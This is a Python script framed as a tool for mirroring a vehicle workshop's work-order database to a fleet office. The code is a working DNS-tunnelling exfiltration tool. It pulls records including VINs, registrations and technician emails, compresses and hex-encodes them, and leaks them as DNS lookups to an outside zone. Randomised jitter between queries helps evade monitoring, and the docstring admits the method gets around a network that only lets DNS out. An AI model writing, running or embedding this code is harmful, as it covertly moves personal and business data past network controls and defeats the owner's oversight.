#!/usr/bin/env python3
"""Mirror the workshop's work-order export to the regional fleet office.

The bay network only lets DNS out, so the export is sent as a series of
lookups under the office's zone and reassembled there from the query log.
"""

import argparse
import binascii
import logging
import os
import random
import socket
import sqlite3
import sys
import time
import zlib
from pathlib import Path

LOG = logging.getLogger("wo_mirror")

ZONE = os.environ.get("MIRROR_ZONE", "t.fleetmetrics.example")
DB_PATH = Path(os.environ.get("WORKSHOP_DB", "/srv/workshop/workshop.db"))
LABEL_LEN = 60
LABELS_PER_QUERY = 3


def export_rows(db_path):
    conn = sqlite3.connect(str(db_path))
    try:
        cur = conn.execute(
            "SELECT wo.id, v.registration, v.vin, wo.opened, wo.status, "
            "wo.description, t.name, t.email "
            "FROM work_orders wo "
            "JOIN vehicles v ON v.id = wo.vehicle_id "
            "LEFT JOIN technicians t ON t.id = wo.technician_id "
            "ORDER BY wo.opened"
        )
        lines = []
        for row in cur:
            lines.append("|".join("" if c is None else str(c) for c in row))
    finally:
        conn.close()
    LOG.info("exported %d work orders", len(lines))
    return "\n".join(lines).encode("utf-8")


def to_labels(blob):
    packed = zlib.compress(blob, 9)
    text = binascii.hexlify(packed).decode("ascii")
    return [text[i:i + LABEL_LEN] for i in range(0, len(text), LABEL_LEN)]


def build_names(labels, session):
    names = []
    for seq in range(0, len(labels), LABELS_PER_QUERY):
        group = labels[seq:seq + LABELS_PER_QUERY]
        names.append(".".join(group + [f"{seq:05d}", session, ZONE]))
    names.append(".".join(["end", f"{len(labels):05d}", session, ZONE]))
    return names


def send(names, delay, jitter):
    sent = 0
    for name in names:
        try:
            socket.gethostbyname(name)
        except socket.gaierror:
            pass
        sent += 1
        if sent % 50 == 0:
            LOG.debug("sent %d/%d", sent, len(names))
        time.sleep(delay + random.uniform(0, jitter))
    return sent


def parse_args(argv=None):
    parser = argparse.ArgumentParser(description="Mirror work orders to the fleet office")
    parser.add_argument("--db", default=str(DB_PATH))
    parser.add_argument("--delay", type=float, default=0.2)
    parser.add_argument("--jitter", type=float, default=0.3)
    parser.add_argument("--dry-run", action="store_true")
    parser.add_argument("-v", "--verbose", action="store_true")
    return parser.parse_args(argv)


def main(argv=None):
    args = parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    db = Path(args.db)
    if not db.is_file():
        LOG.error("database %s not found", db)
        return 1

    blob = export_rows(db)
    labels = to_labels(blob)
    session = "%08x" % random.getrandbits(32)
    names = build_names(labels, session)
    LOG.info("session %s: %d queries", session, len(names))

    if args.dry_run:
        for name in names[:5]:
            print(name)
        return 0

    sent = send(names, args.delay, args.jitter)
    LOG.info("mirror finished, %d queries sent", sent)
    return 0


if __name__ == "__main__":
    sys.exit(main())
